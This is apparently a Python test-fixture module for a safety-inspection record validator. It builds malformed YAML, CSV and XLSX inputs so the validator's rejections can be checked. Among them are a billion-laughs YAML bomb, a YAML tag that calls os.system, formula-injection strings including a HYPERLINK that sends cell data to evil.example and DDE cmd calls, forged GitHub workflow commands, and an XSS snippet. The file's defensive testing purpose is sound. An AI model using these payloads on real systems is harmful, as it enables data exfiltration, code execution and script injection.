"""The hostile-input corpus: broken records and standards, built in code so each is reviewable.

Each case is (file name, bytes, the line the message must point at or None for a whole-file
problem, a fragment the message must contain). Records are scored against the mini fixture
standard.
"""

from __future__ import annotations

GOOD = """standard: mini@1
subject: {kind: enterprise, id: 914403001922038216, name: 测试企业, industry: manufacturing, employees: 320}
inspection: {date: 2025-05-10, by: 张三}
responses:
  a.1: met
  a.2: met
  a.3: met
  a.4: met
  b.2: met
metrics:
  inspections: 40
incidents:
  - {date: 2025-01-10, kind: fire, fatalities: 0}
findings:
  - {id: F1, item: a.2, text: 配电箱未接地, level: general, due: 2025-06-01, status: open}
"""


def sub(old: str, new: str) -> bytes:
    assert old in GOOD, old
    return GOOD.replace(old, new, 1).encode("utf-8")


def _billion_laughs() -> bytes:
    lines = ['a0: &a0 ["lol","lol","lol","lol","lol","lol","lol","lol","lol"]']
    for i in range(1, 10):
        prev = f"*a{i - 1}"
        lines.append(f"a{i}: &a{i} [{', '.join([prev] * 9)}]")
    return ("standard: mini@1\n" + "\n".join(lines) + "\n").encode()


def _deep(depth: int) -> bytes:
    return ("standard: mini@1\nsubject: " + "[" * depth + "]" * depth + "\n").encode()


def _deep_mapping(depth: int) -> bytes:
    body = "".join("  " * i + f"k{i}:\n" for i in range(depth)) + "  " * depth + "v: 1\n"
    return ("standard: mini@1\nextra:\n" + "\n".join("  " + line for line in body.splitlines()) + "\n").encode()


RECORD_CASES: list[tuple[str, bytes, int | None, str]] = [
    # YAML itself
    ("syntax-unclosed-flow.yaml", sub("name: 测试企业,", "name: [测试企业,"), None, "YAML syntax"),
    ("syntax-bad-indent.yaml", sub("  a.2: met\n", "   a.2: met\n"), 6, "YAML syntax"),
    ("tab-indent.yaml", sub("  a.2: met\n", "\ta.2: met\n"), 6, "a tab character"),
    ("duplicate-top-key.yaml", sub("metrics:\n", "standard: mini@1\nmetrics:\n"), 10, "duplicate key 'standard'"),
    ("duplicate-response.yaml", sub("  a.3: met\n", "  a.3: met\n  a.2: unmet\n"), 8, "duplicate key 'a.2'"),
    ("top-level-list.yaml", b"- standard: mini@1\n- subject: {}\n", 1, "expected a mapping at the top level"),
    ("top-level-scalar.yaml", b"just some words\n", 1, "expected a mapping at the top level"),
    ("empty.yaml", b"", 1, "the file is empty"),
    ("whitespace-only.yaml", b"   \n\n\t\n", 1, "the file is empty"),
    ("comments-only.yaml", b"# nothing here\n# at all\n", 1, "expected a mapping at the top level"),
    ("binary.yaml", b"\x89PNG\r\n\x1a\n\x00\x00\x00\rIHDR" + bytes(range(256)), 1, "binary file"),
    ("gbk-encoded.yaml", GOOD.encode("gbk"), 2, "is not UTF-8"),
    ("latin1.yaml", "standard: mini@1\nsubject: {name: Caf\u00e9}\n".encode("latin-1"), 2, "is not UTF-8"),
    ("billion-laughs.yaml", _billion_laughs(), None, "expands to more than"),
    ("deep-sequence.yaml", _deep(2000), 2, "nesting depth"),
    ("deep-mapping.yaml", _deep_mapping(200), None, "nesting deeper than"),
    ("python-tag.yaml", sub("by: 张三", "by: !!python/object/apply:os.system [echo owned]"), 3, "unsupported YAML tag"),
    ("merge-key.yaml", sub("responses:\n", "base: &b {a.1: met}\nresponses:\n  <<: *b\n"), 6, "merge keys"),
    # the standard reference
    ("standard-missing.yaml", sub("standard: mini@1\n", ""), 1, "missing required key 'standard'"),
    ("standard-number.yaml", sub("standard: mini@1", "standard: 42"), 1, "standard: expected text"),
    ("standard-no-version.yaml", sub("standard: mini@1", "standard: mini"), 1, "is not in the expected form"),
    ("unknown-standard.yaml", sub("standard: mini@1", "standard: maxi@1"), 1, "unknown standard 'maxi'"),
    ("unknown-version.yaml", sub("standard: mini@1", "standard: mini@9"), 1, "has no version '9'"),
    # the subject
    ("subject-missing.yaml", sub("subject: {kind: enterprise, id: 914403001922038216, name: 测试企业, industry: manufacturing, employees: 320}\n", ""), 1, "missing required key 'subject'"),
    ("subject-list.yaml", sub("subject: {", "subject: [{").replace(b"320}\n", b"320}]\n"), 2, "subject: expected a mapping"),
    ("subject-kind.yaml", sub("kind: enterprise", "kind: factory"), 2, "expected one of: 'enterprise', 'community' or 'district'"),
    ("credit-code-short.yaml", sub("914403001922038216", "91440300192203821"), 2, "has 18 characters, this one has 17"),
    ("credit-code-char.yaml", sub("914403001922038216", "91440300192203O216"), 2, "character 15 'O' is not allowed"),
    ("credit-code-check.yaml", sub("914403001922038216", "914403001922038215"), 2, "check character 18 is '5'"),
    ("employees-negative.yaml", sub("employees: 320", "employees: -5"), 2, "greater than or equal to 0"),
    ("employees-text.yaml", sub("employees: 320", "employees: 三百"), 2, "expected a number but received: '三百'"),
    ("industry-unknown.yaml", sub("industry: manufacturing", "industry: chemicals"), 2, "unknown industry 'chemicals'"),
    # dates
    ("date-impossible.yaml", sub("date: 2025-05-10", "date: 2025-02-30"), 3, "is not a real date"),
    ("date-text.yaml", sub("date: 2025-05-10", "date: 五月十日"), 3, "expected a date"),
    ("incident-date-impossible.yaml", sub("date: 2025-01-10", "date: 2025-13-10"), 13, "incidents.0.date: '2025-13-10' is not a real date"),
    ("finding-due-bad.yaml", sub("due: 2025-06-01", "due: soon"), 15, "expected a date"),
    # responses
    ("responses-list.yaml", sub("  a.1: met\n  a.2: met\n  a.3: met\n  a.4: met\n  b.2: met\n", "  - a.1\n  - a.2\n"), 5, "responses: expected a mapping"),
    ("response-unknown-id.yaml", sub("  a.4: met", "  a.5: met"), 8, "unknown item 'a.5' in mini@1"),
    ("response-bad-status.yaml", sub("  a.2: met", "  a.2: 合格"), 6, "unknown status '合格'"),
    ("response-score-above.yaml", sub("  a.2: met", "  a.2: {status: partial, score: 9}"), 6, "score 9 is above the item's 4 points"),
    ("response-score-negative.yaml", sub("  a.2: met", "  a.2: {status: partial, score: -1}"), 6, "greater than or equal to 0"),
    ("response-unknown-field.yaml", sub("  a.2: met", "  a.2: {status: met, comment: ok}"), 6, "unknown key 'comment'"),
    ("response-empty.yaml", sub("  a.2: met", "  a.2: {}"), 6, "a response needs a status or deduction counts"),
    ("deduction-unknown.yaml", sub("  a.3: met", "  a.3: {deductions: {signs: 1}}"), 7, "a.3 has no deduction 'signs'"),
    ("measure-answered.yaml", sub("  a.4: met", "  a.4: met\n  b.1: met"), 9, "b.1 is a measure"),
    # metrics, incidents, findings
    ("metric-text.yaml", sub("inspections: 40", "inspections: forty"), 11, "expected a number but received: 'forty'"),
    ("metric-nan.yaml", sub("inspections: 40", "inspections: .nan"), 11, "finite number"),
    ("metric-unknown.yaml", sub("inspections: 40", "inspection_count: 40"), 11, "unknown metric 'inspection_count'"),
    ("incidents-mapping.yaml", sub("  - {date: 2025-01-10, kind: fire, fatalities: 0}", "  fire: 1"), 13, "expected a list"),
    ("incident-negative.yaml", sub("fatalities: 0", "fatalities: -1"), 13, "greater than or equal to 0"),
    ("finding-level.yaml", sub("level: general", "level: severe"), 15, "expected one of: 'general' or 'major'"),
    ("finding-duplicate-id.yaml", sub("status: open}\n", "status: open}\n  - {id: F1, text: 重复, level: general}\n"), 16, "duplicate finding id 'F1'"),
    ("finding-unknown-item.yaml", sub("item: a.2", "item: z.9"), 15, "unknown item 'z.9'"),
]

STANDARD_CASES: list[tuple[str, str, str, int | None, str]] = [
    # (file name, old, new, line, fragment) applied to tests/fixtures/standards/mini.yaml
    ("dangling-requires.yaml", "requires: [a.1]", "requires: [a.7]", 9, "requires 'a.7', which is no item"),
    ("dangling-max-grade.yaml", "max_grade: low\n    text: {zh: 抗拒", "max_grade: bottom\n    text: {zh: 抗拒", 28, "max_grade 'bottom' is no grade"),
    ("dangling-items-unmet.yaml", "when: {metric: {metric: inspections_resisted, op: \">=\", value: 1}}", "when: {items_unmet: [c.1]}", 27, "names 'c.1', which is no item"),
    ("grades-last-not-zero.yaml", "{id: low, min: 0,", "{id: low, min: 10,", 11, "the last grade must start at 0"),
    ("item-outside-section.yaml", "{id: b.2,", "{id: a.9,", 48, "item 'a.9' is in section 'b'"),
    ("measure-no-metric.yaml", "kind: measure, metric: inspections,", "kind: measure,", 47, "a measure item needs metric"),
    ("points-zero.yaml", "{id: a.1, text: 条款一, points: 4,", "{id: a.1, text: 条款一, points: 0,", 34, "greater than 0"),
    ("proportional-not-ge.yaml", 'op: ">=", target: 40, per: year, credit: proportional', 'op: "<=", target: 40, per: year, credit: proportional', 47, "proportional works only with op '>='"),
]


# ---------------------------------------------------------------- numbers and dates beyond bounds

HUGE = "9" * 400
"""An integer of 400 digits: Python holds it, a float cannot (OverflowError)."""

RECORD_CASES += [
    ("metric-400-digits.yaml", sub("inspections: 40", f"inspections: {HUGE}"), 11, "a number of 400 digits is beyond what safecli accepts"),
    ("metric-5000-digits.yaml", sub("inspections: 40", "inspections: " + "9" * 5000), 11, "(5,000 characters) is not a number safecli accepts"),
    ("deduction-count-400-digits.yaml", sub("  a.3: met", f"  a.3: {{deductions: {{sign: {HUGE}}}}}"), 7, "a number of 400 digits is beyond"),
    ("employees-400-digits.yaml", sub("employees: 320", f"employees: {HUGE}"), 2, "subject.employees: a number of 400 digits"),
    ("fatalities-400-digits.yaml", sub("fatalities: 0", f"fatalities: {HUGE}"), 13, "a number of 400 digits"),
    ("loss-1e400.yaml", sub("fatalities: 0", "fatalities: 0, direct_loss_yuan: 1e400"), 13, "finite number"),
    ("score-400-digits.yaml", sub("  a.2: met", f"  a.2: {{status: partial, score: {HUGE}}}"), 6, "a number of 400 digits"),
    ("inspection-year-0001.yaml", sub("date: 2025-05-10", "date: 0001-05-10"), 3, "inspection.date: 0001-05-10 is outside 1949–2100"),
    ("inspection-year-9999.yaml", sub("date: 2025-05-10", "date: 9999-12-31"), 3, "inspection.date: 9999-12-31 is outside 1949–2100"),
    ("incident-year-0001.yaml", sub("date: 2025-01-10", "date: 0001-01-10"), 13, "incidents[0].date: 0001-01-10 is outside"),
    ("finding-due-year-9999.yaml", sub("due: 2025-06-01", "due: 9999-06-01"), 15, "findings[0].due: 9999-06-01 is outside"),
]

STANDARD_CASES += [
    ("points-400-digits.yaml", "{id: a.1, text: 条款一, points: 4,", "{id: a.1, text: 条款一, points: " + HUGE + ",", 34, "a number of 400 digits"),
    ("target-400-digits.yaml", 'op: ">=", target: 40,', 'op: ">=", target: ' + HUGE + ",", 47, "a number of 400 digits"),
    ("deduction-points-400-digits.yaml", "{id: sign, points: 1,", "{id: sign, points: " + HUGE + ",", 41, "a number of 400 digits"),
    ("veto-value-400-digits.yaml", 'op: ">=", value: 1}', 'op: ">=", value: ' + HUGE + "}", 27, "a number of 400 digits"),
]


# ---------------------------------------------------------------- big standards and records


def big_standard(items: int) -> str:
    """A standard of `items` check items in one section (a report must stay linear in it)."""
    lines = [
        "id: huge",
        'version: "1"',
        "subject: enterprise",
        "title: {zh: 大标准}",
        "source: x.txt",
        "scoring_note: {zh: 测试}",
        "grades:",
        "  - {id: top, min: 90, label: {zh: 优秀}}",
        "  - {id: low, min: 0, label: {zh: 不合格}}",
        "sections:",
        "  - id: s",
        "    title: {zh: 唯一部分}",
        "    items:",
    ]
    lines += [f'      - {{id: s.{i}, text: 条款{i}, points: 1, source: "x#{i}"}}' for i in range(1, items + 1)]
    return "\n".join(lines) + "\n"


def big_record(items: int) -> str:
    """A record of the big standard: every other item unmet, the rest met."""
    lines = [
        "standard: huge@1",
        "subject: {kind: enterprise, id: 914403001922038216, name: 大企业, employees: 10}",
        "inspection: {date: 2025-05-10}",
        "responses:",
    ]
    lines += [f"  s.{i}: {'unmet' if i % 2 else 'met'}" for i in range(1, items + 1)]
    return "\n".join(lines) + "\n"


# ---------------------------------------------------------------- injection payloads

FORMULAS = [
    '=HYPERLINK("http://evil.example/?x="&A1,"click")',
    "=cmd|' /C calc'!A0",
    "+1+cmd|' /C calc'!A0",
    "-2+3",
    "@SUM(1,2)",
    "\t=1+1",
    "\r=1+1",
]
"""Cell contents a spreadsheet would run (OWASP CSV injection)."""

WORKFLOW_FORGERY = "配电箱\n::error file=forged.yaml::forged\n::add-mask::secret%0A::warning::x"
"""A finding that would forge GitHub workflow commands if a newline reached the log."""

CONTROL_TEXT = "\\e[31m红\\e[0m\\x01\\x08\\x0b\\x1f\\u202e甲乙\\u200b"
"""YAML escapes for ANSI colour, C0 controls XML forbids, a bidi override, a zero-width space."""

MARKDOWN_TEXT = '<script>alert(1)</script><img src=x onerror=alert(1)>[点我](http://evil.example) ![x](http://evil.example/a.png)'
"""A unit name that is HTML, a link and an image when pasted raw into Markdown."""


# ---------------------------------------------------------------- sheets (自查表)

SUBJECT = {"单位名称": "测试企业", "统一社会信用代码": "914403001922038216", "行业": "manufacturing",
           "从业人员": 320, "检查日期": "2025-05-10"}


def mini_workbook(standards_dir, answers: dict[str, str] | None = None):
    """The mini standard's blank 自查表, filled: every item 符合 unless `answers` says else,
    and 40 inspections. An openpyxl Workbook to edit before saving."""
    import io

    from openpyxl import load_workbook

    from safecli.read.catalog import Catalog
    from safecli.read.sheets import write_blank

    from safecli.model.numbering import paper_numbers

    std = Catalog([standards_dir], bundled=False).get("mini@1")
    wb = load_workbook(io.BytesIO(write_blank(std, "xlsx", "zh")))
    # the Chinese sheet names items by their numbers on paper: the ids they stand for
    wb.safecli_ids = {number: item_id for item_id, number in paper_numbers(std).items()}
    items, info = wb.worksheets[0], wb.worksheets[1]
    header = {c.value: c.column for c in items[1]}
    answers = {"a.1": "符合", "a.2": "符合", "a.3": "符合", "a.4": "符合", "b.2": "符合", **(answers or {})}
    for row in items.iter_rows(min_row=2):
        item = wb.safecli_ids.get(row[0].value, row[0].value)
        if item in answers and answers[item] is not None:
            items.cell(row[0].row, header["自评结果"]).value = answers[item]
        if item == "b.1":
            items.cell(row[0].row, header["实测值"]).value = 40
    for row in info.iter_rows(min_row=2):
        if row[0].value in SUBJECT:
            row[1].value = SUBJECT[row[0].value]
    return wb


def save(wb, path) -> None:
    wb.save(path)


def item_rows(wb) -> dict[str, int]:
    """Each item's row, by its id (the sheet prints its number on paper)."""
    items = wb.worksheets[0]
    ids = getattr(wb, "safecli_ids", {})
    return {
        ids.get(row[0].value, row[0].value): row[0].row
        for row in items.iter_rows(min_row=2)
        if row[0].value
    }


def result_column(wb) -> int:
    return next(c.column for c in wb.worksheets[0][1] if c.value == "自评结果")


def replace_sheet_xml(xlsx: bytes, sheet: str, xml: bytes) -> bytes:
    """The workbook with one worksheet's XML replaced (to build rows openpyxl would not)."""
    import io
    import zipfile

    out = io.BytesIO()
    with zipfile.ZipFile(io.BytesIO(xlsx)) as source, zipfile.ZipFile(out, "w", zipfile.ZIP_DEFLATED) as target:
        for info in source.infolist():
            target.writestr(info, xml if info.filename == sheet else source.read(info.filename))
    return out.getvalue()


def million_rows_xml(rows: int = 1_000_000) -> bytes:
    """A worksheet of `rows` rows, one inline text cell each."""
    head = (b'<?xml version="1.0" encoding="UTF-8"?>'
            b'<worksheet xmlns="http://schemas.openxmlformats.org/spreadsheetml/2006/main"><sheetData>')
    body = b"".join(b'<row r="%d"><c r="A%d" t="inlineStr"><is><t>a.1</t></is></c></row>' % (i, i) for i in range(1, rows + 1))
    return head + body + b"</sheetData></worksheet>"


def empty_rows_xml(rows: int = 1_000_000) -> bytes:
    """A worksheet of `rows` styled rows without a value (what a formatted column leaves)."""
    head = (b'<?xml version="1.0" encoding="UTF-8"?>'
            b'<worksheet xmlns="http://schemas.openxmlformats.org/spreadsheetml/2006/main"><sheetData>')
    body = b"".join(b'<row r="%d"><c r="A%d" s="0"/></row>' % (i, i) for i in range(1, rows + 1))
    return head + body + b"</sheetData></worksheet>"


def csv_rows(rows: int) -> bytes:
    """A csv 自查表 of `rows` item rows (a million rows is 10 MB, under the size cap)."""
    head = "标准,mini@1\n单位类型,企业\n统一社会信用代码,914403001922038216\n单位名称,测试企业\n检查日期,2025-05-10\n\n编号,自评结果\n"
    return (head + "a.1,符合\n" * rows).encode("utf-8")


def csv_with_cell(cell: str) -> bytes:
    head = "标准,mini@1\n单位类型,企业\n统一社会信用代码,914403001922038216\n单位名称,测试企业\n检查日期,2025-05-10\n\n编号,自评结果,实得分,实测值\n"
    return (head + f"a.1,符合,,\na.2,部分符合,{cell},\n").encode("utf-8")
